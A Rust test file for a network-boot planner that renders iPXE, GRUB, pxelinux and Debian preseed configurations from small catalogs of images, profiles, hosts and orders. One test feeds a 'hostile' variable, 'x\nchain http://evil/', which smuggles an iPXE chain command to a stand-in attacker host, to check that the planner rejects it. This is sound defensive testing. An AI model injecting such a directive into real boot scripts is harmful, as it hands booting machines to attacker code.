//! What the planner makes of small catalogs.

use std::collections::BTreeMap;

use proptest::prelude::*;
use proto::catalog::{HostSpec, ImageSpec, OrderSpec, ProfileSpec, SiteSpec, Spec};
use proto::plan::{Content, Guard, Part, SitePlan, Stage};
use proto::{HostId, OrderId, Uid};
use serde_json::{Value, json};
use zeroize::Zeroizing;

use super::*;

mod chunks;
mod link_wait;
mod mirrors;
mod supply;

const KERNEL: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

fn resource<S: Spec>(name: &str, id: u8, spec: Value) -> Arc<Resource<S>> {
    let document = json!({
        "kind": S::KIND.word(), "name": name, "spec": spec,
        "meta": {"id": Uid([id; 16]).to_string(), "created_ms": 0},
    });
    Arc::new(serde_json::from_value(document).expect("a legal document"))
}

fn file() -> Value {
    json!({"sha256": KERNEL, "size": 7})
}

/// A fleet with one image of each family.
fn globals(profiles: Value) -> Globals {
    let debian = json!({"family": "debian", "kernel": "amd64/linux", "initrds": ["amd64/initrd.gz"],
        "files": {"amd64/linux": file(), "amd64/initrd.gz": file()}});
    let linux = json!({"family": "linux", "kernel": "vmlinuz", "initrds": ["a/initrd", "b/initrd"],
        "files": {"vmlinuz": file(), "a/initrd": file(), "b/initrd": file()}});
    let disk = json!({"family": "disk-image", "disk": "web.img.gz", "files": {"web.img.gz": file()}});
    let loaders = json!({"family": "loaders", "loaders": {"uefi-x64": "efi/snponly.efi"},
        "files": {"efi/snponly.efi": file()}});
    let shim = json!({"family": "loaders", "program": "grub", "loaders": {"uefi-x64": "shimx64.efi"},
        "files": {"shimx64.efi": file(), "grubx64.efi": file()}});
    let pxelinux = json!({"family": "loaders", "program": "pxelinux", "loaders": {"bios": "pxelinux.0"},
        "files": {"pxelinux.0": file(), "ldlinux.c32": file(), "memdisk": file()}});
    let iso = json!({"family": "iso", "disk": "tools.iso", "files": {"tools.iso": file()}});
    let lpxelinux = json!({"family": "loaders", "program": "lpxelinux", "loaders": {"bios": "lpxelinux.0"},
        "files": {"lpxelinux.0": file(), "ldlinux.c32": file()}});
    let images = [
        ("debian-12", debian),
        ("live", linux),
        ("web-1", disk),
        ("ipxe", loaders),
        ("shim", shim),
        ("pxelinux", pxelinux),
        ("tools", iso),
        ("lpxelinux", lpxelinux),
    ];
    let images = images.map(|(name, spec)| (name.to_owned(), resource::<ImageSpec>(name, 1, spec)));
    let profiles: BTreeMap<String, Value> = serde_json::from_value(profiles).expect("a map");
    let profile = |(name, spec): (String, Value)| (name.clone(), resource::<ProfileSpec>(&name, 2, spec));
    Globals {
        images: images.into(),
        profiles: profiles.into_iter().map(profile).collect(),
        secrets: BTreeMap::from([("root".into(), Arc::new(Zeroizing::new("$6$salt$hash".to_owned())))]),
        ..Globals::default()
    }
}

fn host(name: &str, id: u8, profile: Option<&str>) -> (String, Arc<Resource<HostSpec>>) {
    let spec = json!({"site": "lyon", "macs": [format!("52:54:00:00:00:{id:02x}")], "profile": profile});
    (name.to_owned(), resource(name, id, spec))
}

fn order(name: &str, id: u8, host: (&str, u8), profile: &str) -> (String, Arc<Resource<OrderSpec>>) {
    let spec = json!({"site": "lyon", "host": host.0, "host_id": Uid([host.1; 16]).to_string(), "profile": profile,
        "agent": "lyon-1", "number": 7, "not_after_ms": 1000});
    (name.to_owned(), resource(name, id, spec))
}

fn site(extra: Value) -> Arc<Resource<SiteSpec>> {
    let mut spec = json!({"subnets": [{"network": "10.1.0.0/24"}]});
    spec.as_object_mut().expect("a map").extend(extra.as_object().expect("a map").clone());
    resource("lyon", 9, spec)
}

fn planned(globals: &Globals, local: &Local) -> Planned {
    let view = SiteView { fleet: "acme", name: "lyon", globals, local };
    plan(&view, Generation { epoch: 1, revision: 5 }).expect("there is a site")
}

fn decoded(planned: &Planned) -> SitePlan {
    let plan = SitePlan::decode(&planned.document).expect("agents understand it");
    assert_eq!(plan.doubts, []);
    plan
}

/// A file's parts as one text: slots and secrets by name.
fn text(boot: &Boot, name: &str) -> String {
    let Content::Parts(parts) = &boot.files[name].content else { panic!("{name} is rendered") };
    let show = |part: &Part| match part {
        Part::Literal(bytes) => String::from_utf8(bytes.to_vec()).expect("text"),
        Part::Slot(slot) => format!("<{slot:?}>"),
        Part::Secret(name) => format!("<secret {name}>"),
    };
    parts.iter().map(show).collect()
}

fn messages(planned: &Planned) -> Vec<(&str, &str)> {
    planned.problems.iter().map(|problem| (problem.name.as_str(), problem.field.as_str())).collect()
}

#[test]
fn without_a_site_there_is_no_plan() {
    let view =
        SiteView { fleet: "acme", name: "lyon", globals: &Globals::default(), local: &Local::default() };
    assert!(plan(&view, Generation::default()).is_none());
}

#[test]
fn debian_is_installed_by_a_preseed_file() {
    let globals = globals(json!({"deb": {"image": "debian-12",
        "boot": {"more_arguments": "console=ttyS0"},
        "variables": {"root_password": "root", "locale": "fr_FR.UTF-8"}}}));
    let local = Local {
        site: Some(site(
            json!({"loaders": "ipxe", "variables": {"locale": "en_GB.UTF-8", "mirror_host": "mirror.lan"}}),
        )),
        hosts: [host("web-1.example.org", 3, Some("deb"))].into(),
        orders: [order("web-1-7", 4, ("web-1.example.org", 3), "deb")].into(),
        ..Local::default()
    };
    let planned = planned(&globals, &local);
    assert_eq!(planned.problems, []);
    let plan = decoded(&planned);
    let order = &plan.orders[&OrderId([4; 16])];
    assert_eq!((order.number, order.agent.as_str(), order.host), (7, "lyon-1", HostId([3; 16])));
    assert_eq!(order.secrets.keys().collect::<Vec<_>>(), ["root|preseed"]);
    assert_eq!(plan.hosts[&HostId([3; 16])].boot, None, "without its order it boots its disk");
    insta::assert_snapshot!("debian_script", text(&order.boot, "boot.ipxe"));
    insta::assert_snapshot!("debian_preseed", text(&order.boot, "preseed.cfg"));
    let file = &order.boot.files["preseed.cfg"];
    assert_eq!((file.stage, file.guard), (Stage::Answer, Guard::Order));
    assert!(planned.uses.contains(&(Kind::Secret, "root".into())), "{:?}", planned.uses);
    let text = format!(
        "{:?}",
        planned.document.entries().filter(|(key, _)| !key.starts_with("secret/")).collect::<Vec<_>>()
    );
    assert!(!text.contains("$salt$"), "the secret stands in its own entry alone");
}

#[test]
fn a_profile_changes_a_block_of_the_familys_template() {
    let own = "{% extends 'preseed.cfg' %}{% block packages %}\n{{ super() }}\nd-i x/rack string {{ labels.rack }}\n{% endblock %}";
    let plan_of = |own: &str| {
        let globals =
            globals(json!({"deb": {"image": "debian-12", "templates": {"preseed.cfg": {"text": own}}}}));
        let mut host = host("web-1", 3, Some("deb"));
        Arc::make_mut(&mut host.1).labels = BTreeMap::from([("rack".into(), "b4".into())]);
        let local = Local {
            site: Some(site(json!({"loaders": "ipxe"}))),
            hosts: [host].into(),
            orders: [order("web-1-7", 4, ("web-1", 3), "deb")].into(),
            ..Local::default()
        };
        planned(&globals, &local)
    };
    let plan = plan_of(own);
    assert_eq!(plan.problems, []);
    let text = text(&decoded(&plan).orders[&OrderId([4; 16])].boot, "preseed.cfg");
    assert!(
        text.contains(
            "\npopularity-contest popularity-contest/participate boolean false\nd-i x/rack string b4\n"
        ),
        "{text}"
    );
    assert!(text.contains("d-i grub-installer/only_debian boolean true"), "{text}");
    let problem = &plan_of(&own.replace("block packages", "block pakages")).problems[0];
    assert_eq!(problem.field, "profile deb: templates.preseed.cfg");
    assert!(
        problem
            .message
            .starts_with("line 1: the family's preseed.cfg has no block \"pakages\", only bootloader"),
        "{problem:?}"
    );
}

#[test]
fn a_disk_image_is_written_by_an_installer() {
    let globals = globals(json!({"img": {"image": "web-1", "installer": "live"}}));
    let local = Local {
        site: Some(site(json!({}))),
        hosts: [host("web-1", 3, None)].into(),
        orders: [order("web-1-7", 4, ("web-1", 3), "img")].into(),
        ..Local::default()
    };
    let planned = planned(&globals, &local);
    assert_eq!(planned.problems, []);
    let boot = &decoded(&planned).orders[&OrderId([4; 16])].boot.clone();
    let script = text(boot, "boot.ipxe");
    let arguments = format!(
        "initrd=initrd initrd=2-initrd bootlane.image=<BaseUrl>/o/<OrderToken>/web.img.gz bootlane.sha256={KERNEL} \
         bootlane.size=7 bootlane.format=gz bootlane.report=<BaseUrl>/o/<OrderToken>/report \
         BOOTIF=01-${{netX/mac:hexhyp}} || goto retry\n"
    );
    assert!(script.contains(&arguments), "{script}");
    let stages: Vec<_> =
        boot.files.iter().map(|(name, file)| (name.as_str(), file.stage, file.guard)).collect();
    let expected = [
        ("2-initrd", Stage::Initrd, Guard::Attempt),
        ("boot.ipxe", Stage::Script, Guard::Attempt),
        ("initrd", Stage::Initrd, Guard::Attempt),
        ("vmlinuz", Stage::Kernel, Guard::Attempt),
        ("web.img.gz", Stage::Image, Guard::Order),
    ];
    assert_eq!(stages, expected);
}

#[test]
fn a_diskless_host_boots_its_profile_of_mode_run() {
    let globals = globals(json!({"run": {"image": "live", "mode": "run",
        "boot": {"arguments": "root=/dev/ram0\n  motd={{ url('motd') }}"},
        "templates": {"motd": {"text": "{{ host.name }} at {{ site.name }}\n", "open": true}}}}));
    let local = Local {
        site: Some(site(json!({}))),
        hosts: [host("node-1", 3, Some("run"))].into(),
        orders: BTreeMap::new(),
        ..Local::default()
    };
    let planned = planned(&globals, &local);
    assert_eq!(planned.problems, []);
    let plan = decoded(&planned);
    let boot = plan.hosts[&HostId([3; 16])].boot.as_ref().expect("it boots");
    assert!(text(boot, "boot.ipxe").contains(" root=/dev/ram0 motd=<BaseUrl>/a/<AttemptId>/motd BOOTIF="));
    assert_eq!(text(boot, "motd"), "node-1 at lyon\n");
    assert_eq!(boot.files["motd"].guard, Guard::Attempt);
    assert_eq!(planned.blobs.len(), 1);
}

/// A host whose profile and whose own document name these loaders, at a site that has others.
fn with_loaders(site_has: &str, host_has: Option<&str>, profile_has: Option<&str>) -> Planned {
    let globals = globals(json!({"run": {"image": "live", "mode": "run", "loaders": profile_has,
        "boot": {"arguments": "a=b;c", "more_arguments": "quiet"}}}));
    let spec = json!({"site": "lyon", "macs": ["52:54:00:00:00:03"], "profile": "run", "loaders": host_has});
    let local = Local {
        site: Some(site(json!({"loaders": site_has}))),
        hosts: [("node-1".to_owned(), resource("node-1", 3, spec))].into(),
        orders: BTreeMap::new(),
        ..Local::default()
    };
    planned(&globals, &local)
}

#[test]
fn each_program_is_told_in_its_own_words() {
    let script = |loaders: &str, name: &str| {
        let planned = with_loaders("ipxe", Some(loaders), None);
        assert_eq!(planned.problems, []);
        let plan = decoded(&planned);
        let boot = plan.hosts[&HostId([3; 16])].boot.clone().expect("it boots");
        assert_eq!(boot.loaders, [loaders, "ipxe"]);
        assert!(boot.files.contains_key("boot.ipxe"), "any ROM may be iPXE");
        text(&boot, name)
    };
    insta::assert_snapshot!("pxelinux", script("pxelinux", "pxelinux.cfg"));
    insta::assert_snapshot!("lpxelinux", script("lpxelinux", "lpxelinux.cfg"));
    insta::assert_snapshot!("grub", script("shim", "grub.cfg"));
}

#[test]
fn loaders_of_the_host_come_before_the_profile_s_and_the_site_s() {
    let level = |planned: &Planned| {
        let host = |(key, _): &(&str, &Entry)| key.starts_with("host/");
        planned.document.entries().find(host).expect("one").1.level
    };
    let all = with_loaders("ipxe", Some("shim"), Some("pxelinux"));
    let plan = decoded(&all);
    let boot = plan.hosts[&HostId([3; 16])].boot.as_ref().expect("it boots");
    assert_eq!(boot.loaders, ["shim", "pxelinux", "ipxe"]);
    let chosen = |platform| plan.loader_of(boot, platform).map(|(set, path)| (set.name.as_str(), path));
    assert_eq!(chosen(proto::Platform::UefiX64), Some(("shim", "shimx64.efi")));
    assert_eq!(chosen(proto::Platform::Bios), Some(("pxelinux", "pxelinux.0")));
    assert_eq!(chosen(proto::Platform::UefiArm64), None);
    assert_eq!((level(&all), plan.loaders.len()), (2, 3));
    let usual = with_loaders("ipxe", None, Some("ipxe"));
    let plan = decoded(&usual);
    assert_eq!((level(&usual), plan.network.loaders.len()), (1, 1), "agents that know no sets go on");
    let other = with_loaders("shim", None, None);
    let plan = decoded(&other);
    assert_eq!(
        (level(&other), plan.network.loaders.len()),
        (2, 0),
        "those would not know what to do with it"
    );
    assert!(plan.loaders["shim"].site_default && plan.loaders["shim"].texts.contains_key("grub.cfg"));
}

/// A host without an order that shows this menu, by these loaders.
fn with_menu(menu: Value, loaders: &str) -> Planned {
    let globals = globals(json!({
        "rescue": {"image": "live", "mode": "run", "boot": {"arguments": "motd={{ url('motd') }}"},
            "templates": {"motd": {"text": "hello\n", "open": true}}},
        "tools": {"image": "tools", "mode": "run"},
        "more": {"image": "live", "mode": "run"},
        "other": {"image": "live", "mode": "run"},
        "deb": {"image": "debian-12"},
    }));
    let spec = json!({"site": "lyon", "macs": ["52:54:00:00:00:03"], "menu": menu, "loaders": loaders, "profile": "deb"});
    let local = Local {
        site: Some(site(json!({"loaders": "ipxe"}))),
        hosts: [("node-1".to_owned(), resource("node-1", 3, spec))].into(),
        orders: BTreeMap::new(),
        ..Local::default()
    };
    planned(&globals, &local)
}

#[test]
fn a_menu_is_a_boot_of_boots_and_ends_in_the_disk() {
    let boot = |loaders: &str| {
        let planned = with_menu(json!({"entries": ["rescue", "tools"]}), loaders);
        let plan = decoded(&planned);
        (plan.hosts[&HostId([3; 16])].boot.clone(), planned.problems)
    };
    let (menu, problems) = boot("pxelinux");
    assert_eq!(problems, []);
    let menu = menu.expect("there is one");
    assert!(menu.menu && menu.loaders == ["pxelinux", "ipxe"]);
    insta::assert_snapshot!("menu_pxelinux", text(&menu, "pxelinux.cfg"));
    insta::assert_snapshot!("menu_ipxe", text(&menu, "boot.ipxe"));
    let entry = text(&menu, "rescue/pxelinux.cfg");
    assert!(entry.contains("LINUX ::a/<AttemptId>/rescue/vmlinuz\n"), "{entry}");
    assert!(entry.contains("motd=<BaseUrl>/a/<AttemptId>/rescue/motd "), "{entry}");
    let entry = text(&menu, "tools/boot.ipxe");
    assert!(entry.contains("iseq ${platform} efi && goto failed"), "{entry}");
    assert!(
        entry.contains("kernel <BaseUrl>/a/<AttemptId>/tools/memdisk initrd=tools.iso iso raw "),
        "{entry}"
    );
    let (none, problems) = boot("shim");
    assert!(none.is_none(), "its loaders have no memdisk");
    assert_eq!(problems.len(), 1);
}

#[test]
fn grub_has_a_menu_too() {
    let planned = with_menu(json!({"entries": ["rescue"], "timeout": "5s"}), "shim");
    assert_eq!(planned.problems, []);
    let plan = decoded(&planned);
    insta::assert_snapshot!(
        "menu_grub",
        text(plan.hosts[&HostId([3; 16])].boot.as_ref().expect("one"), "grub.cfg")
    );
}

#[test]
fn a_tree_of_menus_is_the_same_for_every_loader() {
    let tree = json!({"title": "Lyon", "timeout": "5s", "entries": [
        "rescue",
        {"title": "Tools (BIOS)", "entries": [
            {"profile": "tools", "title": "Old tools"},
            {"title": "More", "entries": [{"profile": "more", "title": "Rescue, too"}]},
        ]},
    ]});
    for (loaders, file) in [("pxelinux", "boot.ipxe"), ("pxelinux", "pxelinux.cfg"), ("shim", "grub.cfg")] {
        // The second entry needs memdisk, which this set of loaders has not.
        let mut tree = tree.clone();
        if loaders == "shim" {
            tree["entries"][1]["entries"][0]["profile"] = "other".into();
        }
        let planned = with_menu(tree, loaders);
        assert_eq!(planned.problems, []);
        let plan = decoded(&planned);
        let boot = plan.hosts[&HostId([3; 16])].boot.as_ref().expect("one");
        assert!(boot.files.contains_key(&format!("more/{file}")), "entries of menus below are planned, too");
        insta::assert_snapshot!(format!("tree_{file}"), text(boot, file));
    }
}

#[test]
fn a_menu_never_installs() {
    let planned = with_menu(json!({"entries": ["rescue", "deb"]}), "pxelinux");
    assert_eq!(messages(&planned), [("node-1", "spec.profile")]);
    let plan = SitePlan::decode(&planned.document).expect("a legal plan");
    assert_eq!(plan.hosts[&HostId([3; 16])].boot, None);
}

#[test]
fn loaders_that_are_none_lock_the_host() {
    for wrong in ["nix", "debian-12"] {
        let planned = with_loaders("ipxe", Some(wrong), None);
        assert_eq!(messages(&planned), [("node-1", "spec.loaders")]);
        assert!(planned.uses.contains(&(Kind::Image, wrong.into())), "it may come to be");
    }
}

#[test]
fn quirk_43_a_host_says_otherwise_than_its_site() {
    let globals = globals(json!({}));
    let (name, plain) = host("plain", 3, None);
    let said = |name: &str, id: u8, said: bool| {
        let mac = format!("52:54:00:00:00:{id:02x}");
        let spec = json!({"site": "lyon", "macs": [mac], "tftp_single_port": said});
        (name.to_owned(), resource(name, id, spec))
    };
    for site_says in [true, false] {
        let local = Local {
            site: Some(site(json!({"tftp_single_port": site_says}))),
            hosts: [(name.clone(), plain.clone()), said("yes", 4, true), said("no", 5, false)].into(),
            orders: BTreeMap::new(),
            ..Local::default()
        };
        let plan = decoded(&planned(&globals, &local));
        let hosts = [None, Some(HostId([3; 16])), Some(HostId([4; 16])), Some(HostId([5; 16]))];
        assert_eq!(hosts.map(|host| plan.tftp_single_port(host)), [site_says, site_says, true, false]);
    }
}

#[test]
fn an_order_keeps_the_install_time_that_it_was_made_with() {
    let globals = globals(json!({"deb": {"image": "debian-12", "install_time": "15m"}}));
    let (name, old) = order("web-1-1", 4, ("web-1", 3), "deb");
    let mut own = Resource::clone(&old);
    own.spec.install_time = Some(proto::Span::seconds(7_200));
    for (order, minutes) in [(old, 15), (own.into(), 120)] {
        let orders = [(name.clone(), order)].into();
        let local = Local {
            site: Some(site(json!({"loaders": "ipxe"}))),
            hosts: [host("web-1", 3, Some("deb"))].into(),
            orders,
            ..Local::default()
        };
        let install = decoded(&planned(&globals, &local)).orders[&OrderId([4; 16])].install;
        assert_eq!(install, std::time::Duration::from_secs(minutes * 60));
    }
}

#[test]
fn orders_that_do_not_stand_are_left_out() {
    let globals = globals(json!({"deb": {"image": "debian-12"}}));
    let changed = |change: &dyn Fn(&mut Resource<OrderSpec>)| {
        let (name, mut order) = order("web-1-7", 4, ("web-1", 3), "deb");
        change(Arc::make_mut(&mut order));
        let local = Local {
            site: Some(site(json!({}))),
            hosts: [host("web-1", 3, None)].into(),
            orders: [(name, order)].into(),
            ..Local::default()
        };
        let planned = planned(&globals, &local);
        assert_eq!(planned.problems, []);
        decoded(&planned).orders.len()
    };
    let phase = |phase: &str| Some(json!({"phase": phase, "since_ms": 1}));
    assert_eq!(changed(&|_| {}), 1);
    assert_eq!(changed(&|order| order.status = phase("started")), 1);
    assert_eq!(changed(&|order| order.status = phase("installed")), 0);
    assert_eq!(changed(&|order| order.status = phase("failed")), 0);
    assert_eq!(changed(&|order| order.spec.revoked = true), 0);
}

#[test]
fn mistakes_are_named_and_lock_their_host_alone() {
    let globals = globals(json!({
        "good": {"image": "live", "mode": "run"},
        "broken": {"image": "live", "mode": "run", "boot": {"arguments": "x={{ nothing }}"}},
        "hostile": {"image": "live", "mode": "run", "variables": {"a": "x\nchain http://evil/"}},
        "closed": {"image": "live", "mode": "run", "templates": {"a.cfg": {"text": "{{ secret('root') }}"}}},
        "open": {"image": "debian-12", "templates": {"a.cfg": {"text": "{{ secret('root') }}", "open": true}}},
        "nothing": {"image": "nix"},
    }));
    let local = Local {
        site: Some(site(json!({"loaders": "nix"}))),
        hosts: [
            host("a-good", 10, Some("good")),
            host("b-broken", 11, Some("broken")),
            host("c-hostile", 12, Some("hostile")),
            host("d-closed", 13, Some("closed")),
            host("e-none", 14, Some("gone")),
            host("f-order", 15, None),
        ]
        .into(),
        orders: [
            order("o-image", 20, ("f-order", 15), "nothing"),
            order("o-mode", 21, ("f-order", 15), "good"),
            order("o-host", 22, ("x", 99), "open"),
            order("o-open", 23, ("f-order", 15), "open"),
        ]
        .into(),
        ..Local::default()
    };
    let planned = planned(&globals, &local);
    let plan = SitePlan::decode(&planned.document).expect("agents understand the rest");
    let doubts: Vec<_> = plan.doubts.iter().map(|doubt| doubt.key.clone()).collect();
    let broken = (20..24).map(|id| format!("order/{}", Uid([id; 16])));
    assert_eq!(doubts, broken.collect::<Vec<_>>(), "in doubt, so that no agent takes them for revoked");
    let locked: Vec<_> =
        plan.hosts.values().map(|host| (host.name.as_str(), host.locked, host.boot.is_some())).collect();
    let expected = [
        ("a-good", false, true),
        ("b-broken", true, false),
        ("c-hostile", true, false),
        ("d-closed", true, false),
        ("e-none", true, false),
        ("f-order", true, false),
    ];
    assert_eq!(locked, expected);
    assert_eq!(plan.orders.len(), 0);
    let fields = [
        ("lyon", "spec.loaders"),
        ("b-broken", "profile broken: boot.arguments"),
        ("c-hostile", "variables.a"),
        ("d-closed", "profile closed: templates.a.cfg"),
        ("e-none", "spec.profile"),
        ("o-host", "spec.host"),
        ("o-image", "profile nothing: image"),
        ("o-mode", "spec.profile"),
        ("o-open", "profile open: templates.a.cfg"),
    ];
    assert_eq!(messages(&planned), fields);
    assert!(planned.uses.contains(&(Kind::Image, "nix".into())), "a missing image is waited for");
}

#[test]
fn a_plan_is_the_same_whenever_it_is_made() {
    let globals = globals(json!({"run": {"image": "live", "mode": "run"}}));
    let local = Local {
        site: Some(site(json!({}))),
        hosts: [host("a", 3, Some("run"))].into(),
        orders: BTreeMap::new(),
        ..Local::default()
    };
    assert_eq!(planned(&globals, &local).document, planned(&globals, &local).document);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Whatever one profile says, the other host's plan is what it would be without it.
    #[test]
    fn a_bad_profile_leaves_the_others(
        arguments in "(\\{\\{|\\}\\}|\\{%|%\\}|[ -~]|\u{fdd0}|\n){0,30}",
        template in "(\\{\\{ *|\\}\\}|\\{% *|%\\}|for|in|secret\\('root'\\)|[ -~]|\n){0,30}",
    ) {
        let globals = globals(json!({
            "good": {"image": "live", "mode": "run"},
            "wild": {"image": "live", "mode": "run", "boot": {"arguments": arguments},
                "templates": {"a.cfg": {"text": template, "open": true}}},
        }));
        let site = Some(site(json!({})));
        let hosts = [host("a-good", 10, Some("good")), host("b-wild", 11, Some("wild"))];
        let local = Local { site: site.clone(), hosts: hosts.into(), orders: BTreeMap::new(), ..Local::default() };
        let alone = Local { site, hosts: [host("a-good", 10, Some("good"))].into(), orders: BTreeMap::new(), ..Local::default() };
        let (both, one) = (planned(&globals, &local), planned(&globals, &alone));
        let plan = decoded(&both);
        prop_assert_eq!(&plan.hosts[&HostId([10; 16])], &decoded(&one).hosts[&HostId([10; 16])]);
        let wild = &plan.hosts[&HostId([11; 16])];
        prop_assert_eq!(wild.locked, wild.boot.is_none());
        prop_assert_eq!(both.problems.len(), usize::from(wild.locked));
        if let Some(boot) = &wild.boot {
            let script = text(boot, "boot.ipxe");
            prop_assert_eq!(script.lines().filter(|line| line.starts_with("kernel ")).count(), 1);
            prop_assert_eq!(script.lines().count(), text(plan.hosts[&HostId([10; 16])].boot.as_ref().expect("good"), "boot.ipxe").lines().count());
        }
    }
}
